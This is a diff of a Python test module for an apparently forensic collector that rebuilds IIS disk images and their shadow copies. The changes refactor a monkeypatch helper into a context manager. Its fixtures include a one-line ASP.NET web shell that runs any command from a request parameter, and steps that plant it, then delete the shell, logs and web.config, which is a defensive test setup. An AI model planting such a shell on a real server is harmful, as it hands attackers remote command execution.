@@ -2,7 +2,8 @@
 
 from __future__ import annotations
 
-from collections.abc import Sequence
+from collections.abc import Iterator, Sequence
+from contextlib import ExitStack, contextmanager
 from dataclasses import replace
 from pathlib import Path
 
@@ -20,7 +21,10 @@ DAY = 86_400 * SECOND
 ROOT = r"\inetpub\wwwroot\aspnet_client"
 LOGS = r"\inetpub\logs\LogFiles\W3SVC1"
 OLD, NEW = "vss:11111111-1111-1111-1111-111111111111", "vss:22222222-2222-2222-2222-222222222222"
-_HEAD = "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: {day} 00:00:00\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\r\n"
+_HEAD = (
+    "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: {day} 00:00:00\r\n"
+    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\r\n"
+)
 _LINE = "{day} {clock} 10.0.0.5 {method} {stem} - 443 - {client} {agent} 200\r\n"
 SHELL = b'<%@ Page Language="C#" %><% System.Diagnostics.Process.Start(Request["c"]); %>\r\n'
 
@@ -55,7 +59,15 @@ STEPS: tuple[tuple[int, Step], ...] = (
     (2, Append(t=BORN + DAY + 2 * SECOND, volume="C", path=rf"{LOGS}\u_ex210301.log", data=line("2021-03-01", *QUIET))),
     (3, Delete(t=BORN + 2 * DAY, volume="C", path=rf"{LOGS}\u_ex210228.log")),
     (3, Delete(t=BORN + 2 * DAY + SECOND, volume="C", path=rf"{ROOT}\brief.aspx")),
-    (3, Overwrite(t=BORN + 2 * DAY + 2 * SECOND, volume="C", path=rf"{ROOT}\web.config", data=b"<configuration>\r\n</configuration>")),
+    (
+        3,
+        Overwrite(
+            t=BORN + 2 * DAY + 2 * SECOND,
+            volume="C",
+            path=rf"{ROOT}\web.config",
+            data=b"<configuration>\r\n</configuration>",
+        ),
+    ),
     (
         3,
         Append(
@@ -85,8 +97,9 @@ def image_of(state: int, folder: Path) -> Path:
     return built.raw
 
 
-def present(monkeypatch: pytest.MonkeyPatch, live: Path, copies: Sequence[Path]) -> None:
-    """From now on opening `live` shows the volumes of `copies`, the oldest first, as its shadow copies."""
+@contextmanager
+def presented(copies: Sequence[Path]) -> Iterator[None]:
+    """Every volume that is opened has those of `copies`, the oldest first, as its shadow copies."""
     states = (OLD, NEW)
 
     def shadows(handle: VolumeHandle) -> tuple[tuple[VolumeHandle, ...], tuple[str, ...]]:
@@ -98,7 +111,9 @@ def present(monkeypatch: pytest.MonkeyPatch, live: Path, copies: Sequence[Path])
         return found, ()
 
     def shadow(handle: VolumeHandle, number: int, path: Path) -> VolumeHandle:
-        other = open_source(path).volumes[0]
+        image = open_source(path)
+        stack.callback(image.close)
+        other = image.volumes[0]
         created = 132_590_304_000_000_000 + number * 864_000_000_000
         info = SnapshotInfo(
             snapshot=states[number - 1], volume_key=handle.volume.key, number=number, created=created, sequence=number
@@ -106,5 +121,6 @@ def present(monkeypatch: pytest.MonkeyPatch, live: Path, copies: Sequence[Path])
         return replace(other, volume=handle.volume, snapshot=info.snapshot, info=info)
 
     opening: list[bool] = []
-    monkeypatch.setattr("collector.image.snapshots_of", shadows)
-    assert live.exists()
+    with ExitStack() as stack, pytest.MonkeyPatch.context() as monkeypatch:
+        monkeypatch.setattr("collector.image.snapshots_of", shadows)
+        yield
